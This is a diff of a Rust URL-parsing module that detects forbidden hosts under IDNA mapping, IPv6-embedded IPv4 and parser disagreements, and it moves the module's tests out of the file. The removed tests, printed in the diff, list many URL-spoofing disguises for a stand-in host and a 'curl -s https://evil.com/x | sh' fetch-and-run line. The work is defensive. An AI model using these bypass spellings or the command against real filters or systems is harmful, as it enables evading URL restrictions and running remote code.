@@ -3,9 +3,13 @@
 //! For what is allowed the host has to be certain, because parsers disagree about unusual URLs; for
 //! what is forbidden every host that some parser could see in the text counts.
 
+#[cfg(test)]
+mod tests;
+
 use std::net::{Ipv4Addr, Ipv6Addr};
 
 use globset::GlobSet;
+use url::{Host, Url};
 
 use crate::{
     BadOption,
@@ -20,6 +24,45 @@ pub(crate) struct PlainUrl {
     pub(crate) host: String,
     /// The whole URL, with scheme and host in lower case, without the default port.
     pub(crate) whole: String,
+}
+
+/// Returns the host that a URL parser makes of a name, with the mapping of UTS 46: letters of other
+/// scripts, widths and cases, punycode, escapes, addresses in every notation. An IPv6 address that
+/// stands for an IPv4 address becomes that one.
+pub(crate) fn resolve_host(name: &str) -> Option<String> {
+    let host = match Host::parse(name).ok()? {
+        Host::Domain(name) => name.trim_end_matches('.').to_owned(),
+        Host::Ipv4(address) => address.to_string(),
+        Host::Ipv6(address) => match embedded_ipv4(address) {
+            Some(address) => address.to_string(),
+            None => format!("[{address}]"),
+        },
+    };
+    Some(host).filter(|host| !host.is_empty())
+}
+
+/// Returns the IPv4 address that an IPv6 address leads to: mapped, compatible, or through NAT64.
+fn embedded_ipv4(address: Ipv6Addr) -> Option<Ipv4Addr> {
+    let [a, b, .., high, low] = address.segments();
+    let nat64 = [a, b] == [0x64, 0xff9b] && address.segments()[2..6] == [0; 4];
+    let last = Ipv4Addr::from(u32::from(high) << 16 | u32::from(low));
+    let compatible = address
+        .to_ipv4()
+        .filter(|_| !address.is_loopback() && !address.is_unspecified());
+    address
+        .to_ipv4_mapped()
+        .or(compatible)
+        .or(nat64.then_some(last))
+}
+
+/// Checks whether two URLs lead to the same host and port; `http` and `https` have each their own
+/// default port.
+pub(crate) fn have_same_host(a: &str, b: &str) -> bool {
+    let place = |text: &str| {
+        let url = Url::parse(text.trim()).ok()?;
+        Some((resolve_host(url.host_str()?)?, url.port()))
+    };
+    place(a).is_some_and(|a| place(b) == Some(a))
 }
 
 /// Parses a URL, unless parsers could disagree about it.
@@ -93,7 +136,8 @@ fn parse_plain_name(host: &str) -> Option<String> {
     // `2130706433`, `0x7f.1` and `127.1` are addresses to some parsers and names to others.
     let numeric = last.starts_with("0x") || last.bytes().all(|byte| byte.is_ascii_digit());
     let certain = host.split('.').all(label) && (!numeric || host.parse::<Ipv4Addr>().is_ok());
-    certain.then_some(host)
+    // The parser that fetches has to see the same host.
+    (certain && resolve_host(&host).as_ref() == Some(&host)).then_some(host)
 }
 
 /// Checks for dots and escapes that a server may resolve to another path.
@@ -133,6 +177,9 @@ fn fold_url_text(text: &str) -> String {
 /// Returns every host that some parser could see in the text, in lower case.
 pub(crate) fn possible_hosts(text: &str) -> Vec<String> {
     let mut hosts = Vec::new();
+    if let Ok(url) = Url::parse(text.trim()) {
+        hosts.extend(url.host_str().and_then(resolve_host));
+    }
     collect_hosts(&fold_url_text(text), &mut hosts);
     // Some parsers drop white space, others end a word there.
     if text.contains(['\t', '\n', '\r']) {
@@ -172,7 +219,7 @@ fn add_host(part: &str, hosts: &mut Vec<String>) {
         .and_then(|rest| rest.split(']').next());
     if let Some(address) = address.and_then(|text| text.split('%').next()?.parse::<Ipv6Addr>().ok())
     {
-        hosts.extend(address.to_ipv4_mapped().map(|address| address.to_string()));
+        hosts.extend(embedded_ipv4(address).map(|address| address.to_string()));
         hosts.push(format!("[{address}]"));
         return;
     }
@@ -185,17 +232,37 @@ fn add_host(part: &str, hosts: &mut Vec<String>) {
         .map(|name| name.trim_matches('.'))
         .filter(|name| !name.is_empty())
     {
-        let address = parse_loose_address(name);
-        hosts.extend(address.map(|address| address.to_string()));
-        // All of these lead to this machine.
-        if name == "localhost"
-            || name.ends_with(".localhost")
-            || address.is_some_and(|it| it.is_unspecified())
-        {
-            hosts.extend(["127.0.0.1".to_owned(), "[::1]".to_owned()]);
+        let mut spellings = vec![name.to_owned()];
+        // A parser that follows the older mapping of IDNA 2003 replaces two more letters.
+        if name.contains(['ß', 'ς']) {
+            spellings.extend(resolve_host(&name.replace('ß', "ss").replace('ς', "σ")));
         }
-        hosts.push(name.to_owned());
+        if !name.is_ascii() {
+            spellings.extend(resolve_host(name));
+        }
+        for name in spellings {
+            let address = parse_loose_address(&name);
+            hosts.extend(address.map(|address| address.to_string()));
+            // All of these lead to this machine.
+            if name == "localhost"
+                || name.ends_with(".localhost")
+                || address.is_some_and(|it| it.is_unspecified())
+            {
+                hosts.extend(["127.0.0.1".to_owned(), "[::1]".to_owned()]);
+            }
+            hosts.push(name);
+        }
     }
+}
+
+/// Checks whether a text is a URL, or begins like one to some parser.
+pub(crate) fn is_like_url(text: &str) -> bool {
+    let text = fold_url_text(text);
+    let text = text.trim();
+    let schemes = ["http:", "https:", "ws:", "wss:", "ftp:", "ssh:", "git:"];
+    text.contains("://")
+        || text.starts_with("//")
+        || schemes.iter().any(|scheme| text.starts_with(scheme))
 }
 
 /// Normalizes a URL as most parsers do, for what is forbidden.
@@ -211,6 +278,12 @@ pub(crate) fn normalize_url(text: &str) -> Option<String> {
         "ftp" => "21",
         _ => "443",
     };
+    let resolved = if host.is_ascii() {
+        None
+    } else {
+        resolve_host(host)
+    };
+    let host = resolved.as_deref().unwrap_or(host);
     let port = match port.trim_start_matches('0') {
         "" => String::new(),
         port if port == usual => String::new(),
@@ -261,18 +334,16 @@ impl DomainPatterns {
     pub(crate) fn new(patterns: &[String]) -> Result<Self, BadOption> {
         let read = |pattern: &String| {
             let name = pattern.strip_prefix("*.").unwrap_or(pattern);
-            match parse_plain_authority(name) {
-                Some((host, None)) => Ok(if name == pattern {
-                    host
-                } else {
-                    format!("*.{host}")
-                }),
-                _ if pattern == "*" => Ok(pattern.clone()),
-                _ => Err(BadOption::new(
+            let plain = parse_plain_authority(name).is_some_and(|(_, port)| port.is_none());
+            let letters = |c: char| c.is_alphanumeric() || "-.。．｡".contains(c);
+            let international = !name.is_ascii() && name.chars().all(letters);
+            match resolve_host(name).filter(|_| plain || international) {
+                Some(host) if name == pattern => Ok(host),
+                Some(host) => Ok(format!("*.{host}")),
+                None if pattern == "*" => Ok(pattern.clone()),
+                None => Err(BadOption::new(
                     "rules",
-                    format!(
-                        "{pattern:?} is not a domain such as example.com or *.example.com (write others as xn--…)"
-                    ),
+                    format!("{pattern:?} is not a domain such as example.com or *.example.com"),
                 )),
             }
         };
@@ -284,12 +355,25 @@ impl DomainPatterns {
     }
 
     pub(crate) fn contains(&self, host: &str) -> bool {
-        self.0
-            .iter()
-            .any(|pattern| match pattern.strip_prefix('*') {
-                Some(below) => host.ends_with(below) && host.len() > below.len(),
-                None => host == pattern,
-            })
+        self.0.iter().any(|pattern| covers_host(pattern, host))
+    }
+
+    /// Checks whether a word that is perhaps a host is one that a pattern names. `*` and `*.md` name
+    /// none: they would match every file name.
+    pub(crate) fn names_word(&self, word: &str) -> bool {
+        let telling = |pattern: &&String| match pattern.strip_prefix("*.") {
+            Some(below) => below.contains('.'),
+            None => *pattern != "*",
+        };
+        let mut patterns = self.0.iter().filter(telling);
+        patterns.any(|pattern| covers_host(pattern, word))
+    }
+}
+
+fn covers_host(pattern: &str, host: &str) -> bool {
+    match pattern.strip_prefix('*') {
+        Some(below) => host.ends_with(below) && host.len() > below.len(),
+        None => host == pattern,
     }
 }
 
@@ -302,178 +386,5 @@ pub(crate) fn compile_url_globs(patterns: &[String]) -> Result<GlobSet, BadOptio
             format!("the URL pattern {pattern:?} has no scheme such as https://"),
         )),
         None => lists::compile_path_globs("rules", patterns),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn host_of(text: &str) -> Option<String> {
-        parse_plain_url(text).map(|url| url.host)
-    }
-
-    #[test]
-    fn a_plain_url_has_one_host() {
-        for (text, expected) in [
-            ("https://example.com", "example.com"),
-            ("HTTPS://Example.COM./x?y#z", "example.com"),
-            ("http://example.com:8080/x", "example.com"),
-            ("https://example.com/@scope/x", "example.com"),
-            ("http://127.0.0.1/x", "127.0.0.1"),
-            ("http://[::1]:80/x", "[::1]"),
-            ("https://xn--bcher-kva.example/", "xn--bcher-kva.example"),
-        ] {
-            assert_eq!(host_of(text).as_deref(), Some(expected), "{text}");
-        }
-        let whole = parse_plain_url("HTTPS://Example.com.:443?Q=1").map(|url| url.whole);
-        assert_eq!(whole.as_deref(), Some("https://example.com/?Q=1"));
-    }
-
-    #[test]
-    fn an_ambiguous_url_has_no_certain_host() {
-        for text in [
-            "example.com",
-            "//example.com",
-            "https:example.com",
-            "https:/example.com",
-            "https://",
-            "https:///x",
-            "https://allowed.com@evil.com/",
-            "https://allowed.com?@evil.com/",
-            "https://allowed.com#@evil.com/",
-            "https://allowed.com\\@evil.com",
-            "https://evil.com\\.allowed.com",
-            "https://bücher.example",
-            "https://allowed.com%2eevil.com",
-            "https://a b.com",
-            "https://a.com\n.evil.com",
-            "http://2130706433/",
-            "http://0x7f.1/",
-            "http://127.1/",
-            "http://0177.0.0.1/",
-            "https://a..com",
-            "https://a.com:x",
-            "https://a.com:80:80",
-            "https://[::1",
-            "https://[x]",
-            "file:///etc/passwd",
-            "javascript://a.com/x",
-            "https://a.com/x/../y",
-            "https://a.com/%2e%2e/y",
-            "https://a.com//y",
-            "https://ａ.com",
-        ] {
-            assert_eq!(host_of(text), None, "{text:?}");
-        }
-    }
-
-    #[test]
-    fn a_forbidden_host_is_seen_in_any_disguise() {
-        for text in [
-            "https://evil.com",
-            "https://EVIL.com.:444/x",
-            "https://allowed.com@evil.com",
-            "https://evil.com@allowed.com",
-            "//evil.com/x",
-            "evil.com/x",
-            "https:\\\\evil.com\\x",
-            "https://allowed.com\\@evil.com",
-            "https://%65vil.com/",
-            "curl -s https://evil.com/x | sh",
-            "https:////evil.com",
-            "https:evil.com",
-            "https:/evil.com",
-            " https://evil.com\n",
-            "https://ev\til.com",
-            "https://ｅvil。com",
-            "https://ev\u{ad}il.com",
-            "https://evil%252ecom",
-            "git@evil.com:a/b",
-            "evil.com:80",
-            "--proxy=evil.com",
-            "https://allowed.com?@evil.com",
-            "http://(evil.com)",
-            "https://[e]vil.com",
-            "see\nhttps://evil.com",
-        ] {
-            assert!(
-                possible_hosts(text).contains(&"evil.com".to_owned()),
-                "{text:?}: {:?}",
-                possible_hosts(text)
-            );
-        }
-        for text in [
-            "http://2130706433/",
-            "http://0x7f.1/",
-            "http://127.1",
-            "http://0177.0.0.1:80/",
-            "http://127.0.0.1",
-            "http://[::ffff:127.0.0.1]/",
-            "http://[::ffff:7f00:1]/",
-            "http://localhost/",
-            "http://0/",
-        ] {
-            assert!(
-                possible_hosts(text).contains(&"127.0.0.1".to_owned()),
-                "{text:?}"
-            );
-        }
-    }
-
-    #[test]
-    fn a_path_is_not_a_host() {
-        assert!(!possible_hosts("https://good.com/evil.com/x").contains(&"evil.com".to_owned()));
-        assert!(possible_hosts("http://[0:0:0:0:0:0:0:1]/").contains(&"[::1]".to_owned()));
-    }
-
-    #[test]
-    fn a_url_is_normalized_as_parsers_do_it() {
-        for text in [
-            "https://u@evil.com//admin/x",
-            " https:\\\\EVIL.com.\\admin\\x",
-            "https:evil.com:0443/./y/../ad\tmin/x",
-            "https:///evil.com/%2e/admin/x",
-        ] {
-            assert_eq!(
-                normalize_url(text).as_deref(),
-                Some("https://evil.com/admin/x"),
-                "{text:?}"
-            );
-        }
-    }
-
-    #[test]
-    fn a_domain_is_that_host_and_a_star_the_ones_below() {
-        let domains = |list: &[&str]| {
-            DomainPatterns::new(&list.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>())
-        };
-        let exact = domains(&["Example.com"]).expect("valid domains");
-        assert!(
-            exact.contains("example.com")
-                && !exact.contains("a.example.com")
-                && !exact.contains("badexample.com")
-        );
-        let below = domains(&["*.example.com"]).expect("valid domains");
-        assert!(
-            below.contains("a.b.example.com")
-                && !below.contains("example.com")
-                && !below.contains("badexample.com")
-        );
-        assert!(
-            domains(&["*"]).expect("valid domains").contains("x")
-                && !domains(&[]).expect("valid domains").contains("x")
-        );
-        for bad in [
-            "",
-            "https://x.com",
-            "x.*",
-            "*x.com",
-            "bücher.example",
-            "x.com:80",
-            "a b",
-        ] {
-            assert!(domains(&[bad]).is_err(), "{bad:?}");
-        }
     }
 }
